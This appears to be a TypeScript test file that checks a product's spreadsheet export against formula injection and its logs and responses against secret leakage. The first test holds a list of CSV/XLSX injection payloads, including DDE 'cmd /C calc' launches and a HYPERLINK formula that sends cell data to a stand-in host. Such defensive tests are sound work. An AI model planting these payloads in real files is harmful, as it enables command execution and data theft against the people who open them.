import { randomBytes, randomUUID } from 'node:crypto';
import { type Field, type Fields, valueProblem } from '@takt/model';
import { encodePassword, type Factory, FORM } from '@takt/testing';
import { openXlsx, writeXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Company, openCompany, openProduct, uniqueSets } from '../company.ts';
import { examples } from '../coverage-set.ts';
import { figure } from './figure.ts';
import { postTo, ProductProcess } from './product-process.ts';

let factory: Factory;
let company: Company;
beforeAll(async () => {
  factory = await openProduct({ clock: () => new Date() });
  company = await openCompany(factory);
});
afterAll(() => factory.close());

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://a.b/?"&A1,"x")',
  '=WEBSERVICE("http://a.b")',
  '=IMPORTXML("http://a.b","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+cmd',
  '+cmd|x!A1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '@cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=\u00001+1',
  '＝1+1',
  '==1+1',
  "'=1+1",
  '{=1+1}',
];
const free = ({ kind, options }: Field): boolean => kind === 'text' && !options.readonly && !options.pattern;

/** How many cells of the first sheet a spreadsheet would compute. */
async function formulasIn(bytes: Uint8Array): Promise<number> {
  const cells = (await openXlsx(bytes)).sheets[0]?.cells?.values() ?? [];
  return [...cells].filter(({ formula }) => formula !== undefined).length;
}

test('42: no text of any exported column becomes a formula', async () => {
  const control = { name: 'control', rows: [[1]], cells: new Map([['0,1', { value: 2, formula: '1+1' }]]) };
  expect(await formulasIn(await writeXlsx({ sheets: [control] }))).toBe(1);
  const { admin, samples } = company;
  let [cells, formulas, changed] = [0, 0, 0];
  for (const entity of examples.filter(({ exports }) => exports)) {
    const keys = new Set(uniqueSets(entity).flat());
    const names = Object.entries(entity.fields as Fields)
      .filter(([name, field]) => free(field) && !keys.has(name))
      .map(([name]) => name);
    for (const payload of FORMULAS) {
      const texts = names.filter((name) => valueProblem(entity.fields[name], payload.trim()) === null);
      const row = Object.fromEntries(texts.map((name) => [name, payload]));
      const made = await admin.save(entity.id, { ...(await samples.row(entity.id)), ...row });
      expect([200, 422], made.raw).toContain(made.httpStatus);
    }
    const { bytes } = await admin.download(`/${entity.id.split('.')[0]}/ai/export`, { _entity: entity.id });
    const sheet = (await openXlsx(bytes)).sheets[0];
    formulas += await formulasIn(bytes);
    const written = (sheet?.rows ?? []).flat().filter((cell) => typeof cell === 'string');
    cells += written.length;
    const there = new Set(written);
    if (names.length > 0) changed += FORMULAS.filter((payload) => !/[\s\0]/.test(payload) && !there.has(payload)).length;
  }
  figure('42', `${FORMULAS.length} payloads in the texts of ${examples.length} entities, ${cells} cells: ${formulas} formulas`);
  expect([formulas, changed]).toEqual([0, 0]);
  // A spreadsheet is the one form of export there is: nothing else could need a prefix.
  expect(factory.http.routes.filter(({ path }) => /csv/i.test(path))).toEqual([]);
});

test('47: no secret is in a log, an answer or an error', async () => {
  const planted = {
    password: `Planted-${randomUUID()}`,
    wrong: `Wrong-${randomUUID()}`,
    fresh: `Fresh-${randomUUID()}`,
    role: `rw-${randomBytes(12).toString('hex')}`,
    sms: `sms-${randomBytes(12).toString('hex')}`,
  };
  const username = company.admin.username;
  const env = { TAKT_LOG: 'on', TAKT_PASSWORD_APP_RW: planted.role, TAKT_SMS_SECRET: planted.sms };
  const product = await ProductProcess.start(factory, 'main', 0, env);
  const answers: string[] = [];
  const signIn = async (password: string): Promise<string> => {
    const answer = await fetch(`${product.url}/anon/oauth/token`, {
      method: 'POST',
      headers: FORM,
      body: new URLSearchParams({
        grant_type: 'password',
        scope: 'web',
        username: `${username}@${company.tenant.code}`,
        password: encodePassword(password),
      }),
    });
    const body = await answer.text();
    answers.push(body);
    return body;
  };
  try {
    for (const password of [planted.wrong, planted.password]) await signIn(password);
    const tokens = [company.admin.token, randomBytes(32).toString('base64url')];
    const call = async (path: string, body: unknown, token = company.admin.token): Promise<void> => {
      answers.push(JSON.stringify(await postTo(product.url, path, token, randomUUID(), body)));
    };
    for (const token of tokens) await call('/base/ai/queryPage', { _entity: 'base.part' }, token);
    const change = {
      old: encodePassword(planted.wrong),
      new: encodePassword(planted.fresh),
      confirm: encodePassword(planted.fresh),
    };
    await call('/system/sysconfig/user/updatePassword', change);
    await call('/system/sysconfig/user/updatePassword', { ...change, surplus: planted.password });
    await call('/base/ai/submit', { _entity: 'base.part', row: { password: planted.password } });
    await call(`/base/ai/queryPage?token=${company.admin.token}`, { _entity: "x'" });
    await call('/system/ai/queryPage', { _entity: 'system.user' });
    await call('/system/ai/queryPage', { _entity: 'system.loginLog' });
    await fetch(`${product.url}/base/ai/submit`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: `{"password":"${planted.password}`,
    });
  } finally {
    await product.stop('SIGTERM');
  }
  const hashes = ['$argon2', '$scrypt'];
  const secrets = [...Object.values(planted), ...Object.values(planted).map(encodePassword), factory.keys, company.admin.token];
  const inLog = [...secrets, ...hashes].filter((secret) => product.said.includes(secret));
  const inAnswers = [...secrets, ...hashes].filter((secret) => answers.some((answer) => answer.includes(secret)));
  figure(
    '47',
    `${secrets.length} secrets in ${answers.length} answers and ${product.said.length} characters of log: ${inLog.length + inAnswers.length} hits`,
  );
  expect(product.said.length).toBeGreaterThan(1000);
  expect({ inLog, inAnswers }).toEqual({ inLog: [], inAnswers: [] });
});
